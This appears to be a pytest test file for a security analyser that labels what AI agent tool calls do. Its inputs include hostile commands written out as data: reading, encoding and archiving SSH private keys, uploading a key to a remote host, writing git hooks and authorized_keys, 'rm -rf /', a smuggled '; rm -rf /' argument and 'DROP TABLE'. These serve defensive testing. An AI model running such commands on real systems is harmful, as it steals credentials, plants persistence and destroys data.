"""Typed tools: reviewed arguments, unknown ones, and the same label by every way to a file."""

from __future__ import annotations

from typing import Any

import pytest

from defenseclaw.core.facts import ByteKind, FactsResult, IssueCode, ParseStatus
from defenseclaw.core.tool import ToolCall
from defenseclaw.facts import GLOBAL_TOOLS, analyze, validate
from tests.facts.describe import CWD, HOME, analyze_shell, lines


def call(tool: str, **args: Any) -> FactsResult:
    """Analyse a call of a tool of the global table."""
    return analyze(ToolCall(tool, args, CWD, HOME, spec=GLOBAL_TOOLS.get(tool)))


@pytest.mark.parametrize(
    ("tool", "args", "expected"),
    [
        ("Read", {"file_path": "~/.aws/credentials"}, "label read read cloud-credential"),
        (
            "Write",
            {"file_path": "out.txt", "content": "x"},
            "path write write /home/dev/project/out.txt",
        ),
        ("Edit", {"file_path": "a", "old_string": "x", "new_string": "y"}, "op edit write"),
        ("Grep", {"pattern": "key", "path": "/etc"}, "path grep read /etc"),
        ("Grep", {"pattern": "key"}, "recursive grep read"),
        ("Glob", {"pattern": "**/*.py"}, "op glob search"),
        ("LS", {"path": "src"}, "op ls list"),
        ("delete_file", {"path": "a"}, "path delete_file delete /home/dev/project/a"),
        ("move_file", {"source": "/a", "destination": "/b"}, "path move_file write /b"),
        ("move_file", {"source": "/a", "destination": "/b"}, "flow - file move_file process"),
        ("copy_file", {"source": "/a", "destination": "/b"}, "path copy_file read /a"),
        ("delete_file", {"path": "/srv", "recursive": True}, "trait delete_file recursive"),
        ("delete_file", {"path": "/srv", "recursive": True}, "recursive delete_file delete"),
        ("http_request", {"url": "https://a.example"}, "net http_request connect a.example"),
        (
            "http_request",
            {"url": "https://a.example", "method": "POST", "body": "x"},
            "net http_request upload a.example",
        ),
        (
            "http_request",
            {"url": "https://a.example", "headers": {"x": "y"}},
            "net http_request upload a.example",
        ),
        (
            "http_request",
            {"url": "https://a.example", "method": "delete"},
            "trait http_request destroys-resource",
        ),
        (
            "upload_file",
            {"path": "~/.ssh/id_rsa", "url": "https://a.example"},
            "carries upload_file ssh-private-key",
        ),
        (
            "download_file",
            {"source": "https://d.example/z", "destination": "/o"},
            "path download_file write /o",
        ),
        (
            "execute_code",
            {"code": "import os\nos.remove('/etc/x')"},
            "path execute_code delete /etc/x",
        ),
        (
            "WebFetch",
            {"url": "https://docs.example/p", "prompt": "sum"},
            "net webfetch download docs.example",
        ),
        ("TodoWrite", {"todos": []}, "run todowrite"),
        ("Task", {"prompt": "rm -rf /", "description": "x"}, "data rm -rf /"),
    ],
)
def test_reviewed_tool_is_complete(tool: str, args: dict[str, Any], expected: str) -> None:
    result = call(tool, **args)
    found = lines(result)
    assert "complete" in found
    assert expected in found
    assert validate(result.facts).value == "ok"


def test_every_way_to_a_file_gives_the_same_label() -> None:
    ways = [
        call("Read", file_path="~/.ssh/id_rsa"),
        call("Grep", pattern="x", path="/home/dev/.ssh/id_rsa"),
        analyze_shell("cat ~/.ssh/id_rsa"),
        analyze_shell("base64 < ~/.ssh/id_rsa"),
        analyze_shell("cp ~/.ssh/id_rsa /tmp/k"),
        analyze_shell("cd ~/.ssh && head -1 ./id_rsa"),
        analyze_shell("python3 -c \"print(open('/home/dev/.ssh/id_rsa').read())\""),
        analyze_shell("sed -n p $HOME/.ssh/id_rsa"),
        analyze_shell("tar c ~/.ssh"),
    ]
    for result in ways:
        assert any("ssh-private-key" in p.labels for p in result.facts.paths)


def test_every_way_to_write_a_file_gives_the_same_label() -> None:
    patch = "*** Begin Patch\n*** Add File: .git/hooks/pre-push\n+x\n*** End Patch"
    ways = [
        call("Write", file_path=".git/hooks/pre-push", content="x"),
        call("apply_patch", patch=patch),
        analyze_shell("echo x > .git/hooks/pre-push"),
        analyze_shell("tee .git/hooks/pre-push < x"),
        analyze_shell("cp x .git/hooks/pre-push"),
        analyze_shell("install -m 755 x .git/hooks/pre-push"),
        analyze_shell("ln -s /tmp/x .git/hooks/pre-push"),
        analyze_shell("python3 -c \"open('.git/hooks/pre-push', 'w')\""),
    ]
    for result in ways:
        assert any("git-hook" in p.labels and p.access.name == "WRITE" for p in result.facts.paths)


def test_content_is_data_and_kept_for_content_rules() -> None:
    result = call("Write", file_path="a.md", content="rm -rf /")
    assert result.writes == (("/home/dev/project/a.md", "rm -rf /"),)
    content = next(t for t in result.texts if t.field == "content")
    assert content.visible().strip() == ""


def test_edit_lists_are_content_too() -> None:
    edits = [{"old_string": "a", "new_string": "b"}]
    result = call("MultiEdit", file_path="a.md", edits=edits)
    assert result.writes == (("/home/dev/project/a.md", "b"),)


def test_patch_lines_are_kept_per_file() -> None:
    text = "*** Begin Patch\n*** Update File: a\n@@\n-x\n+y\n*** Delete File: b\n*** End Patch"
    result = call("apply_patch", input=text)
    found = lines(result)
    assert {"complete", "path apply_patch delete /home/dev/project/b"} <= found
    assert result.writes == (("/home/dev/project/a", "y"),)


def test_patch_is_applied_in_the_directory_it_names() -> None:
    text = "*** Begin Patch\n*** Add File: a\n+y\n*** End Patch"
    result = call("apply_patch", patch=text, workdir="/srv")
    assert "path apply_patch write /srv/a" in lines(result)
    assert result.writes == (("/srv/a", "y"),)


@pytest.mark.parametrize(
    ("tool", "args"),
    [
        ("Read", {"file_path": "/a", "path": "/b"}),
        ("fetch", {"url": "https://a.example"} | {"uri": "https://b.example"}),
        ("http_request", {"url": "https://a.example", "endpoint": "https://b.example"}),
        ("apply_patch", {"patch": "x", "command": "y"}),
    ],
)
def test_two_spellings_of_one_argument_contradict(tool: str, args: dict[str, Any]) -> None:
    assert not call(tool, **args).authoritative


@pytest.mark.parametrize("tool", ["fetch", "http_request", "upload_file", "download_file"])
def test_tool_without_its_address_is_not_understood(tool: str) -> None:
    assert call(tool, path="a").facts.parse.status is ParseStatus.PARTIAL


def test_malformed_patch_gives_no_facts() -> None:
    result = call("apply_patch", patch="*** Begin Patch\nnonsense\n*** End Patch")
    assert result.facts.parse.status is ParseStatus.INVALID
    assert not result.facts.commands


def test_argument_outside_the_reviewed_list_is_never_ignored() -> None:
    result = call("Bash", command="id", run_with_env={"PATH": "/x"})
    assert result.facts.parse.status is ParseStatus.PARTIAL
    assert IssueCode.UNKNOWN_OPERAND_GRAMMAR in result.facts.parse.issues
    assert "run id" in lines(result)


def test_reviewed_inert_arguments_change_nothing() -> None:
    result = call("Bash", command="id", description="rm -rf /", timeout=5, run_in_background=True)
    assert result.authoritative


def test_unknown_tool_keeps_facts_for_detection_only() -> None:
    result = call("mcp__shell__run", command="rm -rf /")
    found = lines(result)
    assert {"partial", "run rm", "label rm delete system-root"} <= found
    assert (result.facts.mcp_server, result.facts.mcp_tool) == ("shell", "run")


def test_arguments_of_an_unknown_tool_get_no_meaning() -> None:
    result = call("mcp__files__write_file", path="/home/dev/.ssh/authorized_keys", content="k")
    assert not result.facts.paths
    assert not result.facts.commands
    assert {"partial", "unknown ~/.ssh/authorized_keys"} <= lines(result)


def test_unknown_tool_text_stays_visible_to_patterns() -> None:
    result = call("mcp__x__do", blob={"inner": ["rm -rf /"]})
    assert any(s.kind is ByteKind.UNKNOWN for t in result.texts for s in t.spans)
    assert any("rm -rf /" in t.visible() for t in result.texts)


def test_sql_of_an_unknown_tool_is_read() -> None:
    assert any(
        "sql-drop" in c.traits for c in call("mcp__pg__query", sql="DROP TABLE x").facts.commands
    )


def test_vector_is_no_shell_text() -> None:
    result = call("shell", command=["echo", "a; rm -rf /"])
    found = lines(result)
    assert {"complete", "run echo"} <= found
    assert "run rm" not in found
    assert "run rm" in lines(call("shell", command=["bash", "-lc", "rm -rf /"]))


def test_two_different_commands_contradict() -> None:
    result = call("Bash", command="id", cmd="whoami")
    assert result.facts.parse.status is ParseStatus.AMBIGUOUS


def test_working_directory_argument_moves_the_command() -> None:
    result = call("Bash", command="rm x", workdir="/srv/app")
    assert "path rm delete /srv/app/x" in lines(result)


@pytest.mark.parametrize(
    ("args", "status"),
    [
        ({"command": "  "}, ParseStatus.INVALID),
        ({"command": "id\u0007"}, ParseStatus.INVALID),
        ({"command": "x" * 70_000}, ParseStatus.LIMIT_EXCEEDED),
        ({"command": []}, ParseStatus.INVALID),
        ({"command": ["ls", 3]}, ParseStatus.INVALID),
        ({"command": 7}, ParseStatus.INVALID),
        ({"command": ["x"] * 300}, ParseStatus.LIMIT_EXCEEDED),
        ({}, ParseStatus.PARTIAL),
    ],
)
def test_malformed_command_ends_in_a_status(args: dict[str, Any], status: ParseStatus) -> None:
    assert call("Bash", **args).facts.parse.status is status


def test_deep_or_wide_arguments_are_refused() -> None:
    deep: Any = "x"
    for _ in range(40):
        deep = [deep]
    for args in ({"blob": deep}, {"blob": ["x"] * 2000}, {"blob": "x" * 300_000}):
        assert call("mcp__x__y", **args).facts.parse.status is ParseStatus.LIMIT_EXCEEDED


@pytest.mark.parametrize("home", ["/", "rel", "$HOME", "\\"])
def test_unusable_home_is_refused(home: str) -> None:
    result = analyze(ToolCall("Bash", {"command": "id"}, CWD, home, spec=GLOBAL_TOOLS["Bash"]))
    assert result.facts.parse.status is ParseStatus.INVALID
    assert not result.facts.commands
